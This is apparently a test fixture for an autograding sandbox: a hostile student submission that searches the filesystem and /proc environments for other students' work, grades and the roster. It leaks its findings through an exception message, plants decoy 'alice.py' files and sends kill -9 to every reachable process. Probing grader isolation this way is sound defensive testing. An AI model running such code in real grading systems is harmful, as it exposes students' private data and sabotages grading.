# A submission that searches everything it can reach for other students' work, the
# grades, the roster and the output folder, tries to leave traces for others, and reports
# what it found in an exception message (so the grader's report shows it). The test writes
# the search strings in place of the three markers below.
import os
import sys
import time

import numpy as np

MARKERS = __MARKERS__            # strings only other students' files, the roster and out dir hold
NAMES = ("grades.csv", "roster.csv", "summary.json", "report.json", "report.txt", "class")
PLACES = __PLACES__              # the host paths of the class, the roster and the out dir


def _search(budget=1.5):
    found, seen, started = [], 0, time.monotonic()
    for place in PLACES:
        if os.path.exists(place):
            found.append("exists: " + place)
            try:
                found.append("listed: " + ",".join(os.listdir(place))[:200])
            except OSError:
                pass
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for what in ("cmdline", "environ", "cwd"):
                try:
                    text = (os.readlink if what == "cwd" else lambda p: open(p, "rb").read().decode("latin-1"))(
                        f"/proc/{pid}/{what}")
                except OSError:
                    continue
                found += [f"/proc/{pid}/{what}: {m}" for m in MARKERS + PLACES if m in text]
    for top in ("/",):
        for here, dirs, files in os.walk(top):
            if here.startswith(("/proc", "/sys", "/dev", "/usr", sys.prefix, sys.base_prefix)):
                dirs[:] = []
                continue
            if time.monotonic() - started > budget:
                found.append("(search stopped: out of time)")
                return found, seen
            for name in files:
                seen += 1
                path = os.path.join(here, name)
                if name in NAMES:
                    found.append("name: " + path)
                if here.startswith("/etc"):
                    continue
                try:
                    if os.path.getsize(path) < 1 << 20:
                        with open(path, "rb") as f:
                            text = f.read().decode("latin-1")
                        found += [f"content of {path}: {m}" for m in MARKERS if m in text]
                except OSError:
                    pass
    return found, seen


def _meddle():
    """Leave traces where another grading might look, and try to end other processes."""
    for place in ["/tmp", "/tmp/work", os.getcwd(), "/dev/shm", "/var/tmp"] + list(PLACES):
        try:
            with open(os.path.join(place, "alice.py"), "w") as f:
                f.write("def softmax(z):\n    return z\n")
        except OSError:
            pass
    try:
        os.kill(-1, 9)
    except OSError:
        pass


def sigmoid(z):
    found, seen = _search()
    raise RuntimeError(f"SNOOP searched {seen} files; found {found}")


def relu(z):
    _meddle()
    return np.maximum(z, 0.0)
